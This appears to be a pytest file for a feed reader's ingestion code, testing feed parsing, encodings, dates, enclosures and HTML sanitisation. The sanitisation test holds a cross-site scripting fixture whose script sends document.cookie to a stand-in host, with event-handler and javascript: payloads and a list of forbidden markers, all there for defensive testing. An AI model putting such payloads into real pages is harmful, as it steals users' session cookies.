"""Every document of ``../shared/corpus/feeds`` ingests through the real poller over HTTP without an
unhandled error; documents feedparser can recover keep their entries, the expected entry counts
stated by the source projects hold, and no stored text is mojibake."""

from __future__ import annotations

import io
import json
import re

import feedparser
import feedparser.datetimes
import feedparser.mixin
import feedparser.namespaces._base
import feedparser.urls

from service.feeds import add_feed
from service.ingest.feeds import parser
from service.ingest.feeds.entries import FeedParseError, ParsedFeed
from service.models import Article, Entry, Feed
from tests.ingest_helpers import count, feed_row, subscribe
from tests.server import CONTENT_TYPES


async def test_every_corpus_feed_ingests(corpus, server, poller, sessions):
    index = json.loads((corpus / "feeds" / "index.json").read_text())["feeds"]
    ids = {}
    for record in index:
        path = "/corpus/feeds/" + record["file"]
        ids[record["file"]] = await subscribe(sessions, server.url(path))
    await poller.poll_due_feeds()
    problems = []
    for record in index:
        feed = await feed_row(sessions, ids[record["file"]])
        error = feed.last_error or ""
        if error.startswith("internal error"):
            problems.append(f"{record['file']}: {error}")
        if record["format"] == "html-not-a-feed":
            if "not a readable feed" not in error:
                problems.append(f"{record['file']}: an HTML page was accepted as a feed")
            continue
        async with sessions() as session:
            from sqlmodel import func, select
            entries = (await session.exec(select(func.count()).select_from(Entry).where(Entry.feed_id == feed.id))).one()
        expected = record.get("expected_entries")
        observed = (record.get("observed") or {}).get("entries") or 0
        if expected is not None and entries < expected:
            problems.append(f"{record['file']}: {entries} entries, expected {expected}")
        elif observed and entries == 0:
            problems.append(f"{record['file']}: no entries ({error})")
    assert not problems, "\n".join(problems)
    async with sessions() as session:
        from sqlmodel import select
        titles = (await session.exec(select(Article.title))).all()
    assert not [t for t in titles if t and re.search("Ã[\u0080-\u00bf]", t)]
    assert await count(sessions, Article) > 300


async def test_titles_are_plain_text_in_every_format(corpus, server, poller, sessions):
    """Titles are headlines, not markup: an RSS title with escaped tags, an Atom ``type="html"``
    title, and the HTML character references publishers write in JSON Feed titles (NetNewsWire's
    pxlnv.json, feed-rs's jsonfeed_elastic_1.1.json) are stored as the text they show; a plain
    title keeps its ``<``. Markup in CDATA that feedparser takes for text (an element it does not
    know, a void element), an RDF title in CDATA, Atom ``type="xhtml"`` and a JSON Feed title
    written as HTML lose their tags too; a headline that only mentions a tag keeps it."""
    from sqlmodel import select

    rss = ('<rss version="2.0"><channel><title>R &amp;amp; D</title>'
           '<item><title>&lt;b&gt;Q&lt;/b&gt; &amp;amp; A</title><link>https://r.example.org/1</link></item>'
           '<item><title>x &lt; y</title><link>https://r.example.org/2</link></item>'
           '<item><title><![CDATA[<b>Breaking</b>: <mark class="live">Live</mark> &amp; more]]></title><link>https://r.example.org/3</link></item>'
           '<item><title><![CDATA[Wahl 2025<br/>Die Ergebnisse]]></title><link>https://r.example.org/4</link></item>'
           '<item><title><![CDATA[Why <div> soup is bad, and I <3 it]]></title><link>https://r.example.org/5</link></item>'
           '</channel></rss>')
    atom = ('<feed xmlns="http://www.w3.org/2005/Atom"><title type="html">A &amp;lt;tag&amp;gt;</title><id>urn:a</id>'
            '<entry><id>urn:a:1</id><title type="html">&lt;em&gt;Hi&lt;/em&gt; there</title><link href="https://a.example.org/1"/></entry>'
            '<entry><id>urn:a:2</id><title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><strong>X</strong>'
            ' &amp; <span>Y</span></div></title><link href="https://a.example.org/2"/></entry></feed>')
    rdf = ('<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/">'
           '<channel rdf:about="https://d.example.org/"><title><![CDATA[<i>D</i>aily]]></title><link>https://d.example.org/</link></channel>'
           '<item rdf:about="https://d.example.org/1"><title><![CDATA[<span style="x">Eil</span>: <time>12:00</time> Gipfel]]></title>'
           '<link>https://d.example.org/1</link></item></rdf:RDF>')
    json_feed = json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "J", "items": [
        {"id": "1", "url": "https://j.example.org/1", "title": "<strong>Exclusive</strong>: Tom &amp; Jerry", "content_text": "x"},
        {"id": "2", "url": "https://j.example.org/2", "title": "if a<b then c", "content_text": "y"}]})
    feeds = {
        "rss": await subscribe(sessions, server.add("/titles.rss", rss, Content_Type="application/rss+xml")),
        "atom": await subscribe(sessions, server.add("/titles.atom", atom, Content_Type="application/atom+xml")),
        "rdf": await subscribe(sessions, server.add("/titles.rdf", rdf, Content_Type="application/rdf+xml")),
        "json": await subscribe(sessions, server.add("/titles.json", json_feed, Content_Type="application/feed+json")),
        "pxlnv": await subscribe(sessions, server.url("/corpus/feeds/netnewswire/pxlnv.json")),
        "elastic": await subscribe(sessions, server.url("/corpus/feeds/feed-rs/jsonfeed_elastic_1.1.json")),
    }
    await poller.poll_due_feeds()
    async with sessions() as session:
        titles = {name: set((await session.exec(select(Article.title).join(Entry, Entry.article_id == Article.id)
                                                 .where(Entry.feed_id == feed_id))).all()) for name, feed_id in feeds.items()}
    assert titles["rss"] == {"Q & A", "x < y", "Breaking: Live & more", "Wahl 2025 Die Ergebnisse",
                             "Why <div> soup is bad, and I <3 it"}
    assert titles["atom"] == {"Hi there", "X & Y"}
    assert titles["rdf"] == {"Eil: 12:00 Gipfel"}
    assert titles["json"] == {"Exclusive: Tom & Jerry", "if a<b then c"}
    assert "FCC Says Releasing \u2018Jokes\u2019 It Wrote About Ajit Pai Colluding With Verizon Would \u2018Harm\u2019 Agency" in titles["pxlnv"]
    assert not [t for t in titles["pxlnv"] | titles["elastic"] if re.search(r"&(#\d+|#x[0-9a-f]+|[a-z]+);", t or "", re.I)]
    assert [(await feed_row(sessions, feeds[name])).title for name in ("rss", "atom", "rdf", "elastic")] == [
        "R & D", "A <tag>", "Daily", "Blog \u2013 InfluxData"]


async def test_feed_titles_are_decoded_from_their_declared_encodings(corpus, server, poller, sessions):
    cases = {
        "miniflux/encoding_ISO-8859-1.xml": "Golem.de",
        "miniflux/koi8r.xml": None,
        "netnewswire/kc0011.rss": None,
    }
    async with sessions() as session:
        ids = {}
        for name in cases:
            feed, _ = await add_feed(session, server.url(f"/corpus/feeds/{name}"), 900)
            ids[name] = feed.id
    await poller.poll_due_feeds()
    async with sessions() as session:
        golem = await session.get(Feed, ids["miniflux/encoding_ISO-8859-1.xml"])
        assert golem.title.startswith("Golem.de")
        koi8 = await session.get(Feed, ids["miniflux/koi8r.xml"])
        assert any("\u0400" <= ch <= "\u04ff" for ch in koi8.title), koi8.title  # Cyrillic, not mojibake
        chinese = await session.get(Feed, ids["netnewswire/kc0011.rss"])
        assert any("\u4e00" <= ch <= "\u9fff" for ch in chinese.title), chinese.title


def test_content_types_cover_every_corpus_extension(corpus):
    suffixes = {p.suffix for p in (corpus / "feeds").rglob("*") if p.is_file() and p.name != "index.json"}
    assert suffixes <= set(CONTENT_TYPES)


def test_year_first_numeric_dates_are_read_not_guessed(corpus):
    """``2020/1/10 14:03:00`` pubDates (a real NetNewsWire test feed): feedparser's fallback reads
    every one as 2020-11-01; ours gives the stated day and time (UTC: no zone given)."""
    from datetime import UTC, datetime

    from service.ingest.feeds.parser import parse_feed

    parsed = parse_feed((corpus / "feeds" / "netnewswire" / "kc0011.rss").read_bytes(), "https://kc.example.org/",
                        "application/rss+xml", 500)
    dated = [(e.published_raw, e.published_at) for e in parsed.entries if e.published_raw]
    assert len(dated) == len(parsed.entries) == 20
    assert all(e.updated_at is None for e in parsed.entries)  # no <updated>: not "updated when published"
    for raw, published in dated:
        day, clock = raw.split()
        year, month, mday = (int(n) for n in day.split("/"))
        hour, minute, second = (int(n) for n in clock.split(":"))
        assert published == datetime(year, month, mday, hour, minute, second, tzinfo=UTC), raw


def test_enclosures_of_every_feed_format_share_one_shape():
    from service.ingest.feeds.parser import parse_feed

    atom = b"""<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom"><title>Video</title>
<id>urn:x</id><updated>2024-05-01T12:00:00Z</updated><entry><title>Launch</title><id>urn:launch</id>
<updated>2024-05-01T12:00:00Z</updated><link href="https://video.example.org/launch"/>
<link rel="enclosure" href="/media/launch.mp4" type="video/mp4" length="73400320"/></entry></feed>"""
    media = b"""<?xml version="1.0"?><rss version="2.0" xmlns:media="http://search.yahoo.com/mrss/"><channel><title>P</title>
<item><title>Storm</title><link>https://photo.example.org/storm</link>
<media:content url="https://photo.example.org/storm.jpg" type="image/jpeg" fileSize="unknown" medium="image"/>
<enclosure url="javascript:alert(1)" type="audio/mpeg" length="1"/></item></channel></rss>"""
    json_feed = b"""{"version": "https://jsonfeed.org/version/1.1", "title": "Cast", "items": [{"id": "7",
"url": "https://cast.example.org/7", "content_text": "Notes", "attachments": [{"url": "https://cast.example.org/7.m4a",
"mime_type": "audio/x-m4a", "size_in_bytes": 8812345}, {"url": "https://cast.example.org/7.m4a", "mime_type": "audio/x-m4a"}]}]}"""
    [video] = parse_feed(atom, "https://video.example.org/feed.atom").entries
    assert video.enclosures == [{"url": "https://video.example.org/media/launch.mp4", "type": "video/mp4", "length": 73400320}]
    [photo] = parse_feed(media, "https://photo.example.org/rss").entries
    assert photo.enclosures == [{"url": "https://photo.example.org/storm.jpg", "type": "image/jpeg", "length": None}]
    [episode] = parse_feed(json_feed, "https://cast.example.org/feed.json").entries
    assert episode.enclosures == [{"url": "https://cast.example.org/7.m4a", "type": "audio/x-m4a", "length": 8812345}]


def test_html_fields_of_every_feed_format_are_sanitised_alike():
    import json

    from service.ingest.feeds.parser import parse_feed

    hostile = ('<p onclick="steal()">Budget agreed<script>fetch("https://evil.example/?c="+document.cookie)</script>'
               '<img src="https://img.example.org/a.jpg" onerror="alert(1)"> <a href="javascript:alert(2)">more</a></p>')
    json_feed = json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "J", "items": [
        {"id": "1", "url": "https://j.example.org/1", "content_html": hostile, "summary": hostile}]}).encode()
    rss = ('<?xml version="1.0"?><rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>'
           '<title>R</title><item><title>One</title><link>https://r.example.org/1</link>'
           f"<description><![CDATA[{hostile}]]></description><content:encoded><![CDATA[{hostile}]]></content:encoded>"
           "</item></channel></rss>").encode()
    fields = []
    for body, url in ((json_feed, "https://j.example.org/feed.json"), (rss, "https://r.example.org/feed.xml")):
        [entry] = parse_feed(body, url).entries
        fields += [entry.summary_html, entry.content_html]
        assert entry.text.startswith("Budget agreed")
    for html in fields:
        assert "Budget agreed" in html and 'src="https://img.example.org/a.jpg"' in html
        for bad in ("<script", "onerror", "onclick", "javascript:", "document.cookie"):
            assert bad not in html, (bad, html)
    assert len(set(fields)) == 1  # one sanitiser: the same HTML whatever the format


def test_feedparser_shortcuts_change_no_parse(corpus, bug_cases, monkeypatch):
    """``parser``'s shortcuts in feedparser (content settings copied and read as a dict, no link
    resolver for HTML without ``<`` or ``&``, dates parsed once) leave every corpus and bug-case feed document parsed as
    feedparser's own code parses it: feedparser's result and ours."""
    documents = sorted(p for p in (corpus / "feeds").rglob("*") if p.is_file() and p.name != "index.json")
    documents += sorted(bug_cases.glob("*.xml"))

    def parse_all() -> list:
        results = []
        for path in documents:
            body, url = path.read_bytes(), f"https://feeds.example.org/{path.name}"
            raw = feedparser.parse(io.BytesIO(body), response_headers={"content-location": url})
            try:
                ours: ParsedFeed | str = parser.parse_feed(body, url)
            except FeedParseError as exc:
                ours = str(exc)
            # feedparser's own ``*_parsed`` dates are not computed (``parser._no_date_parse``): ours are compared.
            entries = [{k: v for k, v in entry.items() if not k.endswith("_parsed")} for entry in raw.get("entries") or []]
            feed = {k: v for k, v in (raw.get("feed") or {}).items() if not k.endswith("_parsed")}
            results.append((path.name, feed, entries, ours))
        return results

    shortcut = parse_all()
    monkeypatch.setattr(feedparser.mixin._FeedParserMixin, "push_content", parser._push_content)
    monkeypatch.setattr(feedparser.mixin, "resolve_relative_uris", feedparser.urls.resolve_relative_uris)
    monkeypatch.setattr(feedparser.namespaces._base, "_parse_date", feedparser.datetimes._parse_date)
    assert len(shortcut) > 80 and sum(len(entries or []) for _, _, entries, _ in shortcut) > 600
    assert parse_all() == shortcut
